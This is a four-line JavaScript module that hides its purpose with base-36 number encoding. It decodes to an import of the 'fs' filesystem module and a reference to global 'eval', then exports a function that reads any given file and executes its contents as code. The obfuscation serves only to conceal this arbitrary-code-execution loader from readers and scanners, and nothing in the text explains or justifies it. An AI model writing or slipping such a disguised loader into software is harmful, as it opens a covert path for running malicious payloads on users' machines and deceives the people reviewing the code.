const n = (v) => v.toString(36);
const fs = await import(n(568)); 
const run = globalThis[n(693741)];
export const go = async (file) => run((await fs.promises.readFile(file)).toString()); //@act
